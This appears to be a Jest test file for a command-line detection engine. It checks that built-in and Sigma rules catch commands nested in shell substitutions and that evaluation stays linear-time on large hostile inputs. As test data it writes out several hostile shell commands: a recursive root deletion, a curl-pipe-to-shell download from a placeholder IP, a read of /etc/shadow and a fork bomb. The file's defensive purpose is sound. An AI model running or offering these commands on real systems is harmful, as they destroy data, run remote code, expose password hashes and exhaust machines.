import { existsSync } from 'node:fs';
import * as path from 'node:path';
import { builtinRulesDir } from '../core';
import { genericHostileEvents, ruleHostileEvents, type HostileEvent } from './adversarial';
import { compileRule, createStreamingEngine } from './engine';
import { EvalContext } from './condition';
import { commandEvent } from './events';
import { loadRules } from './schema';
import { importSigmaDir } from './sigma';
import type { RuleDef } from './types';

const SIGMA = path.resolve(__dirname, '../../shared/corpora/sigma');
/**
 * Far above the ~10 ms aim, so a loaded CI machine cannot flake it, far below the 25 s the backtracking
 * engine took on 100 KB. Time is linear, so a 1 MiB event gets ten times the bound of a 100 KB one.
 */
const BOUND_MS = 250;
const boundFor = (e: HostileEvent): number => (e.name.includes('MiB') || !e.rule ? 10 * BOUND_MS : BOUND_MS);

async function allRules(): Promise<RuleDef[]> {
  // The repository ships no example rule files; the README's annotated example is a built-in (ak-lnx-setuid-bit-set).
  const rules = await loadRules([builtinRulesDir()]);
  if (existsSync(SIGMA)) rules.push(...(await importSigmaDir(SIGMA)).results.flatMap((r) => (r.ok ? [r.rule] : [])));
  return rules;
}

/**
 * CPU milliseconds of this process running `f`, the least of `runs` runs. The machine is shared (2 cores, a CI run
 * and other jobs beside it): wall time measures the neighbours too, and any one run can take a GC pause or a
 * preemption; the least CPU time of three is the cost of the work itself. The bounds are not loosened for it.
 */
function timed(f: () => void, runs = 3): number {
  let best = Infinity;
  for (let i = 0; i < runs; i++) {
    const c0 = process.cpuUsage();
    f();
    const c = process.cpuUsage(c0);
    best = Math.min(best, (c.user + c.system) / 1000);
  }
  return best;
}

describe('cmd: rules see commands inside substitutions (issue 14, finding 14)', () => {
  it('raises on rm -rf / inside $(…), curl|sh inside backticks and /etc/shadow read inside <(…)', async () => {
    const eng = createStreamingEngine(await loadRules([builtinRulesDir()]));
    const ids = (line: string): readonly string[] => eng.evaluate(commandEvent(line)).matched;
    expect(ids('echo $(rm -rf /)')).toContain('ak-lnx-rm-recursive-system-path');
    expect(ids('x=`curl -s http://198.51.100.9/a|sh`')).toContain('ak-lnx-download-pipe-shell');
    expect(ids('diff <(cat /etc/shadow) x')).toContain('ak-lnx-shadow-file-read');
    expect(ids("echo '$(rm -rf /)'")).not.toContain('ak-lnx-rm-recursive-system-path');
  });
});

describe('rules on hostile input', () => {
  it('evaluate the fork-bomb rule on "f() " + 100 KB in linear time (finding 2: 25.7 s with the backtracking regex)', async () => {
    const rules = (await loadRules([builtinRulesDir()])).filter((r) => r.id === 'ak-lnx-fork-bomb' || r.id === 'ak-lnx-mass-encryption-loop');
    expect(rules).toHaveLength(2);
    const eng = createStreamingEngine(rules);
    eng.evaluate(commandEvent('f() a; for x in y; do z; done'));
    for (const line of ['f() ' + 'a'.repeat(100_000), 'for '.repeat(25_000)]) {
      const ev = commandEvent(line);
      const ms = timed(() => eng.evaluate(ev));
      expect(ms).toBeLessThan(BOUND_MS);
    }
    expect(eng.evaluate(commandEvent(':(){ :|:& };:')).matched).toEqual(['ak-lnx-fork-bomb']);
  });

  it('evaluate 128 KiB of 4,096 attack commands (the lexer caps: 4,096 tokens, 64 KiB parsed) within the bound', async () => {
    const rules = await allRules();
    // Short attack lines the rules themselves test, so most rules are candidates and walk every parsed command.
    const attacks = [...new Set(rules.flatMap((r) => r.tests.match).filter((m): m is string => typeof m === 'string' && m.length < 32 && !/[\n'"`]/.test(m)))];
    expect(attacks.length).toBeGreaterThan(100);
    const line = Array.from({ length: 4096 }, (_, i) => `${(attacks[i % attacks.length] as string).padEnd(31, ' ')};`).join('');
    expect(line.length).toBe(128 * 1024);
    const eng = createStreamingEngine(rules);
    eng.evaluate(commandEvent('warm up'));
    const ev = commandEvent(line);
    const matched = eng.evaluate(ev).matched;
    expect(matched).toContain('ak-lnx-command-line-truncated');
    expect(matched.length).toBeGreaterThan(30);
    const ms = timed(() => eng.evaluate(ev));
    console.log(`128 KiB over 4,096 commands, ${rules.length} rules, ${matched.length} raise: ${ms.toFixed(1)} ms CPU (least of 3)`);
    expect(ms).toBeLessThan(BOUND_MS);
  }, 120_000);

  it('lower-case a 1 MiB field at most twice per event: once for the string tests, once for the regex literal check', async () => {
    const rules = await allRules();
    const eng = createStreamingEngine(rules);
    const big = [...genericHostileEvents(), ...ruleHostileEvents(rules)].filter((e) => e.name.includes('MiB') || !e.rule);
    const lower = jest.spyOn(String.prototype, 'toLowerCase');
    try {
      const counts = big.map((e) => {
        lower.mockClear();
        eng.evaluate(e.event);
        return { name: e.name, long: lower.mock.contexts.filter((c) => String(c).length > 100_000).length };
      });
      expect(counts.filter((c) => c.long > 2)).toEqual([]);
    } finally {
      lower.mockRestore();
    }
  }, 120_000);

  it('every built-in and imported Sigma rule evaluates any hostile event up to 1 MiB in linear time', async () => {
    const rules = await allRules();
    expect(rules.length).toBeGreaterThan(100);
    const events: HostileEvent[] = [...genericHostileEvents(), ...ruleHostileEvents(rules)];
    const eng = createStreamingEngine(rules);
    eng.evaluate(commandEvent('warm up'));
    const perEvent = events.map((e) => ({ name: e.name, ms: timed(() => eng.evaluate(e.event)), bound: boundFor(e) })).sort((a, b) => b.ms - a.ms);
    // Per rule: every rule (no prefilter) on the 1 MiB inputs and on its own pumps, the parse done once beforehand.
    const compiled = rules.map((r) => compileRule(r));
    const ctx = new EvalContext();
    const perRule = new Map<string, number>();
    for (const e of events) {
      ctx.reset(e.event);
      ctx.cmds();
      for (const c of compiled) {
        if (e.rule !== undefined && e.rule !== c.def.id) continue;
        const ms = timed(() => c.predicate(ctx), 1); // printed, not bounded: one run
        if (ms > (perRule.get(c.def.id) ?? -1)) perRule.set(c.def.id, ms);
      }
    }
    const worstRules = [...perRule].sort((a, b) => b[1] - a[1]).slice(0, 8);
    console.log(
      `${rules.length} rules, ${events.length} hostile events (up to 1 MiB); worst per event (whole engine):\n` +
        perEvent.slice(0, 10).map((p) => `  ${p.ms.toFixed(1)} ms  ${p.name}`).join('\n') +
        `\nmedian ${perEvent[perEvent.length >> 1]?.ms.toFixed(2)} ms; worst per rule (condition alone):\n` +
        worstRules.map(([id, ms]) => `  ${ms.toFixed(2)} ms  ${id}`).join('\n'),
    );
    for (const p of perEvent) expect({ name: p.name, slow: p.ms > p.bound }).toEqual({ name: p.name, slow: false });
  }, 600_000);
});
